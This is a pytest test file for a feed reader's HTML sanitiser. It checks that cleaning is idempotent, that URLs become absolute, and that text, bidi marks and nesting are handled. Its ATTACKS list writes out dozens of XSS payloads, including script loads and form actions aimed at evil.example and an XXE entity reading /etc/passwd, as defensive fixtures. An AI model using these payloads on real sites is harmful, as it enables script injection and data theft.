from __future__ import annotations

from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from feeds.read.bodies.clean import clean, text
from feeds.read.bodies.excerpt import excerpt
from feeds.text import NOT_TEXT
from tests.readers import as_feedparser_reads, left, seen

BASE = "https://site.example/2026/post.html"

PIECES = st.sampled_from(
    [
        *(
            "<p>",
            "</p>",
            "<a href='#x'>",
            "<a href=' javascript:x'>",
            "</a>",
            "<table>",
            "<tr>",
            "<td>",
            "</table>",
            "<col>",
        ),
        *(
            "<pre>",
            "\n",
            "</pre>",
            "<b>",
            "</b>",
            "<svg>",
            "</svg>",
            "<math>",
            "<mi>",
            "<title>",
            "</title>",
            "<title/>",
        ),
        *(
            "<img src=a>",
            "<img data-src=' b c'>",
            "<img srcset='a 1x, b,c'>",
            "<iframe src=/x>",
            "</iframe>",
            "<noscript>",
        ),
        *("</noscript>", "&#1;", "&nbsp;", " ", "x", "<li id=x>", "<ul>", "<button>", "<form>", "<select>", "<option>"),
        *("<object>", "<!--", "-->", "<script>", "</script>", "<script/>", "<style>", "</style>", "]]>", "<![CDATA["),
        *(
            "\0",
            "\x0b",
            "\ud800",
            "&lt;",
            "&amp;",
            "&",
            "<textarea>",
            "<h1>",
            "<div>",
            "</div>",
            "<ruby>",
            "<rt>",
            "<caption>",
        ),
        *(
            "<details>",
            "<video src=q>",
            "<p/>",
            "<br/>",
            "</br>",
            "<template>",
            "<plaintext>",
            "<xmp>",
            "<image src=z>",
        ),
        *(
            "<dl><dt>",
            "<dd>",
            "<code class='x language-a'>",
            "</code>",
            "<q cite=':'>",
            "<nobr>",
            "<font>",
            "'",
            '"',
            "<",
        ),
        *("<span dir=rtl>", "<span>", "</span>", "<bdi>", "<summary>", "<summary/>", "<picture>", "<source srcset=s>"),
        *(
            "<i> </i>",
            "<br>",
            "<img width=1 height=1 src=p>",
            "<embed src=e>",
            "<object data=o>",
            "<video>",
            "</video>",
        ),
        *("=", "<path>", "<annotation>", "</annotation>", "<math><mtext><table><mglyph><style>", "<tbody>", "<th>"),
    ]
)
MARKUP = st.lists(PIECES | st.text(max_size=3), max_size=25).map("".join)

#: Ways to smuggle in what runs: our own list, one trick each (C40).
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<script/x>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/onerror=alert(1)/src=x>",
    "<img src='x' title='a>b' onload=alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' \x01java\tscr\nipt:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript&colon;alert(1)'>x</a>",
    "<a href='\u2028javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='javascript:alert(1) 1x, data:x 2x'>",
    "<img data-src='javascript:alert(1)'>",
    "<video poster='javascript:alert(1)' src='data:x'></video>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe><script>alert(1)</script></iframe>",
    "<object data='evil.swf'><param name=movie value=evil.swf></object>",
    "<embed src='evil.swf'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>x</maction></math>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<style>@import 'evil.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<link rel=stylesheet href=evil.css><base href=//evil.example/><meta http-equiv=refresh content='0;url=evil'>",
    "<form action=//evil.example/><input name=q><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<a href='x' style='x' onmouseover=alert(1)//>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<p><a name=n id=location>x</a><img name=cookie>",
]
RUNS = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "link",
    "base",
    "meta",
    "svg",
    "math",
}


BLOCKS = frozenset(
    str.split(
        "address article aside blockquote details div dl figure footer h1 h2 h3 h4 h5 h6 header hr ol p pre section"
        " table ul"
    )
)


class Tags(HTMLParser):
    """The tags and attributes of HTML, read by another parser than the one under test."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.seen: list[tuple[str, dict[str, str]]] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in {"br", "hr", "img", "source", "track", "wbr", "col"}:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag


@given(MARKUP, st.sampled_from([None, BASE]))
@example("<table><a href=#x><td><a href=#y></table>", None)
@example("<pre>\n\nx</pre>", None)
@example("<li id=x><button><a href='#x'>", None)
@example("<p><object><p>x</object></p>", None)
def test_cleaning_twice_changes_nothing(html: str, base: str | None) -> None:
    once = clean(html, base)
    assert clean(once, base) == once


@given(MARKUP | st.text())
def test_rule_26_every_tag_is_closed_and_nothing_runs(html: str) -> None:
    tags = Tags(clean(html, BASE))
    assert not tags.open
    assert not RUNS.intersection(tag for tag, _ in tags.seen)
    assert not any(name.startswith("on") or name == "style" for _, attributes in tags.seen for name in attributes)


@given(MARKUP | st.text())
def test_rules_2_and_3_no_character_that_xml_forbids_is_left(html: str) -> None:
    assert not NOT_TEXT.search(clean(html, BASE))
    assert not NOT_TEXT.search(text(html))


@pytest.mark.parametrize(
    "reference", ["&#1;", "&#x1F;", "&#xFFFE;", "&#65535;", "&#11;", "&#127;", "&#x9D;", "&#&#1;1;"]
)
def test_c41_numeric_references_bring_no_forbidden_character_in(reference: str) -> None:
    done = clean(f"<p title='a{reference}b'>c{reference}d</p>", None)
    assert not NOT_TEXT.search(done)
    assert text(done).startswith("c")


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("base", [None, BASE])
def test_c40_rule_27_nothing_that_runs_gets_through(attack: str, base: str | None) -> None:
    done = clean(f"<p>before</p>{attack}<p>after</p>", base)
    assert "before" in done
    tags = Tags(done)
    for tag, attributes in tags.seen:
        assert tag not in RUNS
        for name, value in attributes.items():
            assert not name.startswith("on")
            assert name not in {"style", "srcdoc", "name", "action", "formaction", "xlink:href"}
            assert not any(scheme in value.lower() for scheme in ("javascript:", "vbscript:", "data:"))


def test_text_of_what_runs_is_gone_and_text_around_it_stays() -> None:
    html = "a<script>x</script>b<style>x</style><form>c<button>x</button><select><option>x</select></form>"
    assert clean(f"{html}<object>d</object>", None) == "ab<div>c</div>d"


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ('<a href="/a">x</a>', '<a href="https://site.example/a">x</a>'),
        ('<a href="b">x</a>', '<a href="https://site.example/2026/b">x</a>'),
        ('<a href="#n">x</a>', f'<a href="{BASE}#n">x</a>'),
        ('<a href="?q=1&amp;r">x</a>', f'<a href="{BASE}?q=1&amp;r">x</a>'),
        ('<a href="//cdn.example/x y">x</a>', '<a href="https://cdn.example/x%20y">x</a>'),
        ('<a href="mailto:ann@example.org">x</a>', '<a href="mailto:ann@example.org">x</a>'),
        ('<a href="tel:+4912345">x</a>', '<a href="tel:+4912345">x</a>'),
        ('<a href="HTTP://EXAMPLE.org">x</a>', '<a href="HTTP://EXAMPLE.org">x</a>'),
        ('<a href="http:nowhere">x</a>', "<a>x</a>"),
        ('<a href="//[">x</a>', "<a>x</a>"),
        ('<a href=" ">x</a>', "<a>x</a>"),
        ('<a href="ftp://example.org/">x</a>', "<a>x</a>"),
        ('<img src="i.png" alt="">', '<img src="https://site.example/2026/i.png" alt="">'),
        ('<img src="mailto:a@b">x', "x"),
        (
            '<img src="i.png" srcset="i.png 1x, j,k.png 2x,l.png 300w, mailto:x 4x">',
            '<img src="https://site.example/2026/i.png" srcset="https://site.example/2026/i.png 1x,'
            ' https://site.example/2026/j,k.png 2x, https://site.example/2026/l.png 300w">',
        ),
        (
            '<img srcset="/a.png, /b.png 2x,">',
            '<img src="https://site.example/a.png" srcset="https://site.example/a.png, https://site.example/b.png 2x">',
        ),
        ('<blockquote cite="/s">x</blockquote>', '<blockquote cite="https://site.example/s">x</blockquote>'),
        (
            '<video src="/v.mp4" poster="/p.png" autoplay></video>',
            '<video src="https://site.example/v.mp4" poster="https://site.example/p.png" controls=""></video>',
        ),
    ],
)
def test_rule_28_urls_become_absolute(html: str, expected: str) -> None:
    assert clean(html, BASE) == expected


def test_without_a_base_relative_urls_stay() -> None:
    html = '<a href="/a#b">x</a><img src="i.png" srcset="i.png 2x">'
    assert clean(html, None) == html


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<p>a</p><p>&nbsp;<br></p>\n<p></p>\n<p>b", "<p>a</p>\n\n<p>b</p>"),
        ("a<!-- b -->c", "ac"),
        (
            '<pre class="hl language-c++"><code class="hljs lang-py x">y</code></pre>',
            '<pre class="language-c++"><code class="language-py">y</code></pre>',
        ),
        ("<pre>\n\n  x</pre>", "<pre>\n\n  x</pre>"),
        ("<p>put it on your <path> or <set> it</p><p>z</p>", "<p>put it on your  or  it</p><p>z</p>"),
        ("<title/>kept", "kept"),
        (
            '<img src="https://a.example/i.png" width="10%" height="20">',
            '<img src="https://a.example/i.png" height="20">',
        ),
        ("<td>1</td>", "1"),
        ("a &amp;amp; b &lt; c", "a &amp;amp; b &lt; c"),
        ("<font color=red>x</font><span>y</span>", "xy"),
    ],
)
def test_only_what_readers_keep_is_left(html: str, expected: str) -> None:
    assert clean(html, None) == expected


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<p><span dir=rtl lang=he>שלום</span></p>", '<p><span dir="rtl" lang="he">שלום</span></p>'),
        ("<p dir=auto lang=ar>مرحبا</p>", '<p dir="auto" lang="ar">مرحبا</p>'),
        ("<bdo dir=rtl>abc</bdo>", '<bdo dir="rtl">abc</bdo>'),
        ("<bdi>x</bdi>", '<span dir="auto">x</span>'),
        ("<bdi class=u dir=ltr>x</bdi>", '<span dir="auto">x</span>'),
        ("<p dir='javascript:'>x</p>", "<p>x</p>"),
        (
            "<span class=k><span lang=ja>字</span><span title=t>y</span></span>",
            '<span lang="ja">字</span>y',
        ),
        ("<p>a\u202eb\u202c \u2066c\u2069\u200f</p>", "<p>a\u202eb\u202c \u2066c\u2069\u200f</p>"),
        ("<p>👩\u200d👩\u200d👧 ❤\ufe0f 🇩🇪 e\u0301 é 漢字</p>", "<p>👩\u200d👩\u200d👧 ❤\ufe0f 🇩🇪 e\u0301 é 漢字</p>"),
        (
            "<p>10\u00a0km 1&nbsp;000 a\u2028b\u2029c so\u00adft &shy;</p>",
            "<p>10&nbsp;km 1&nbsp;000 a\u2028b\u2029c so\u00adft \u00ad</p>",
        ),
    ],
)
def test_c26_direction_language_and_every_character_stay(html: str, expected: str) -> None:
    assert clean(html, None) == expected


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("a<center>b</center>c", "a<div>b</div>c"),
        (
            "<form><fieldset><legend>Who</legend><label>Name</label></fieldset></form>",
            "<div><div><div>Who</div>Name</div></div>",
        ),
        ("<details><summary>More</summary>words</details>", "<details><summary>More</summary>\nwords</details>"),
        (
            "<ruby>漢<rt>かん</rt>字<rt>じ</rt></ruby>",
            "<ruby>漢<rp>(</rp><rt>かん</rt><rp>)</rp>字<rp>(</rp><rt>じ</rt><rp>)</rp></ruby>",
        ),
        ("<ruby>漢<rp>（</rp><rt>かん</rt><rp>）</rp></ruby>", "<ruby>漢<rp>（</rp><rt>かん</rt><rp>）</rp></ruby>"),
        (
            "<strike>a</strike> <tt>b</tt> <acronym title=t>c</acronym>",
            '<s>a</s> <code>b</code> <abbr title="t">c</abbr>',
        ),
    ],
)
def test_d18_what_readers_would_run_together_stays_apart(html: str, expected: str) -> None:
    assert clean(html, None) == expected


@pytest.mark.parametrize(
    "html",
    [
        "<table><caption>Rain</caption><thead><tr><th>Day</th></tr></thead>"
        '<tbody><tr><td colspan="2">1</td></tr></tbody></table>',
        "<table><tbody><tr><td></td><td>1</td></tr></tbody></table>",
        '<pre><code class="language-c++">a\n  b\n\nc</code></pre>',
        '<pre class="language-py">\n\nx</pre>',
        "<dl><dt>Ferry</dt><dd>A boat</dd></dl>",
        '<p><abbr title="Hypertext">HTML</abbr> 10<sup>6</sup> H<sub>2</sub>O</p>',
        '<ol start="3" reversed=""><li value="2">x</li></ol>',
    ],
)
def test_d13_tables_code_lists_and_abbreviations_stay_as_they_are(html: str) -> None:
    assert clean(html, None) == html


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<code data-lang=go class=language-go>x</code>", '<code class="language-go">x</code>'),
        ("<code data-lang=go>x</code>", '<code class="language-go">x</code>'),
        ("<code data-lang='a b'>x</code>", "<code>x</code>"),
        ('<pre class="brush: js; gutter: true">x</pre>', '<pre class="language-js">x</pre>'),
        ("<pre class=lang-js>\n\nx</pre>", '<pre class="language-js">\n\nx</pre>'),
        ("<pre>a<br>b</pre>", "<pre>a<br>b</pre>"),
    ],
)
def test_d13_the_language_and_the_lines_of_code_stay(html: str, expected: str) -> None:
    assert clean(html, None) == expected


def test_d15_footnotes_lead_to_the_page_and_have_their_ids() -> None:
    html = "<p>x<span id=r><sup><a href='#n'>1</a></sup></span></p><p><a name=n></a>note <a href='#r'>↩</a></p>"
    assert clean(html, "https://site.example/b/", BASE) == (
        f'<p>x<span id="r"><sup><a href="{BASE}#n">1</a></sup></span></p>'
        f'<p><a id="n"></a>note <a href="{BASE}#r">↩</a></p>'
    )


def test_heading_anchors_are_no_part_of_the_text() -> None:
    assert clean("<h2 id=x>Rain <a class=anchor href='#x'>¶</a></h2>", BASE) == "<h2>Rain </h2>"
    assert clean("<a href='/tags'>#</a>", BASE) == '<a href="https://site.example/tags">#</a>'


def test_d15_nothing_with_a_url_of_css_or_of_a_script_is_left() -> None:
    html = (
        "<p style='background:url(/a.png)' data-url=/b data-href=c longdesc=d background=e>x</p>"
        "<style>p { background: url(f) }</style><img src=/g.png longdesc=/h usemap='#m'>"
        "<table background=i><td style='list-style:url(j)'>1</table>"
    )
    assert clean(html, BASE) == (
        '<p>x</p><img src="https://site.example/g.png"><table><tbody><tr><td>1</td></tr></tbody></table>'
    )


def test_ids_stay_where_something_links_to_them() -> None:
    html = '<p id="intro"><a href="#fn-1" id="ref-1">1</a></p><ol><li id="fn-1">note <a href="#ref-1">↩</a></li></ol>'
    done = clean(html, BASE)
    assert 'id="fn-1"' in done
    assert 'id="ref-1"' in done
    assert "intro" not in done
    assert 'id="a&amp;b"' in clean("<p id='a&amp;b'><a href='#a&amp;b'>x</a></p>", None)
    assert 'id="fußnote"' in clean("<p id='fußnote'><a href='#fu%C3%9Fnote'>x</a></p>", None)


@pytest.mark.parametrize(
    "nest",
    [
        *(
            "<div>",
            "<blockquote>",
            "<b>",
            "<ul><li>",
            "<table><td>",
            "<svg>",
            "<div></x>",
            "<a>",
            "<p><font>",
            "<script>",
        ),
        *("<div><table><td></div></table>", "<div><!--</div>-->", "<div><title></div></title>", "<div title='</div>'>"),
        *("<!--", "<b><div></b>", "<div><select></div></select>"),
    ],
)
def test_c37_deep_nesting_is_cut_before_it_costs(nest: str) -> None:
    depth = 0
    for tag in clean(nest * (300_000 // len(nest)) + "end", BASE).split("<")[1:]:
        depth += -1 if tag.startswith("/") else 1
        assert depth <= 300


def test_nesting_as_people_write_it_is_kept() -> None:
    html = "".join(f"<ul><li><b>{n}</b><table><tbody><tr><td>x</td></tr></tbody></table></li></ul>" for n in range(300))
    assert clean(html, None) == html
    assert clean("<p>a<br>" * 2000, None).count("<p>") == 2000
    assert clean("<table><tr>" + "<td>x<th>y" * 600 + "</table>", None).count("<td>") == 600


@pytest.mark.parametrize("part", ["amp;", "#38;", "#x26;"])
def test_an_attribute_that_was_escaped_without_end_is_settled_at_once(part: str) -> None:
    """Five times is more than any mistake; each further round would read all of a long text again."""
    assert clean(f'<img src="https://e.org/a.png" alt="Q&{part * 5}A">', None).count("&amp;A") == 1
    cleaned = clean(f'<img src="https://e.org/a.png" alt="Q&{part * 100_000}A">', None)
    assert "&" not in cleaned
    assert clean(cleaned, None) == cleaned


def test_what_never_settles_becomes_text(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("feeds.read.bodies.clean._PASSES", 0)
    assert clean("<p>a &lt; b</p><p>c", None) == "a &lt; b c"


@given(MARKUP)
def test_text_is_one_line_without_tags(html: str) -> None:
    line = text(clean(html, None))
    assert line == " ".join(line.split())


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<p>One</p><p>two<br>three</p><ul><li>four</li><li>five</li></ul>", "One two three four five"),
        ("Tom &amp; Jerry &lt;3 &nbsp; it&#8217;s", "Tom & Jerry <3 it’s"),
        ("a<b>b</b>c", "abc"),
        ("<h2>Head</h2>text<script>no</script><style>no</style>", "Head text"),
        ("&amp;lt;b&amp;gt;", "&lt;b&gt;"),
        ("<table><tr><td>1</td><td>2</td></tr></table>", "1 2"),
    ],
)
def test_text_reads_as_people_see_it(html: str, expected: str) -> None:
    assert text(html) == expected


@given(MARKUP)
def test_rule_26_a_paragraph_holds_no_block_and_no_link_a_link(html: str) -> None:
    within: list[str] = []

    class Nesting(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            assert not (tag in BLOCKS and "p" in within)
            assert not (tag == "a" and "a" in within)
            if tag not in {"br", "hr", "img", "source", "track", "wbr", "col"}:
                within.append(tag)

        def handle_endtag(self, tag: str) -> None:
            assert within.pop() == tag

    Nesting(convert_charrefs=True).feed(clean(html, BASE))


NASTY = str.split(
    "<|<a |<a '|<a \"|data-|<img data-|<img data-src='|<base |<math|<math>|<svg><title>|<!--|<!|<script>|<script>"
    "|<script></script|<noscript><img |</picture><noscript><img >"
    "|<object>|<embed |<video>|<span class=|<b><i></i>|<p>&nbsp;|<br>|<rt>"
    "|<a href='#'>#|<code data-lang=x |\"'|<p title=\"'|<annotation encoding=tex |<x-y|<sup><a |<img src=x>|<summary>",
    "|",
)


@pytest.mark.parametrize("piece", NASTY)
def test_c37_much_of_one_thing_takes_no_longer_than_its_length(piece: str) -> None:
    """What looks for an end from each of its beginnings takes hours here; no clock is needed to see it."""
    html = piece * (250_000 // len(piece))
    assert isinstance(excerpt(clean(html, BASE)), str)


@given(MARKUP, st.sampled_from(["atom", "rss"]))
@example("<details><summary>a</summary><i>b</i></details>", "rss")
@example("<ruby>a<rt>b</rt></ruby><bdi>c</bdi><mark>d</mark>e<wbr>f", "atom")
@example("a<form>b</form>c<main>d</main>e", "atom")
@example("Â¡", "rss")
def test_c27_a_reader_that_sanitises_shows_what_was_meant(html: str, form: str) -> None:
    """Text, links and images after feedparser's own sanitiser are those that we wrote."""
    meant = clean(html, BASE)
    if seen(meant) != seen(""):
        assert seen(left(meant, form)) == seen(as_feedparser_reads(meant))


def test_c4_attributes_that_were_escaped_twice_are_mended() -> None:
    html = '<p><a href="https://site.example/?a=1&amp;amp;b=2&amp;amp;amp;c" title="World&amp;#039;s end">x</a></p>'
    mended = '<p><a href="https://site.example/?a=1&amp;b=2&amp;c" title="World\'s end">x</a></p>'
    assert clean(html, None) == mended == clean(mended, None)


def test_each_thread_cleans_for_its_own_place() -> None:
    bases = [f"https://{number}.example/" for number in range(8)]
    html = "<a href='x'>x</a>" * 50
    with ThreadPoolExecutor(8) as threads:
        for base, made in zip(
            bases, threads.map(lambda base: [clean(html, base) for _ in range(20)], bases), strict=True
        ):
            assert made == [f'<a href="{base}x">x</a>' * 50] * 20
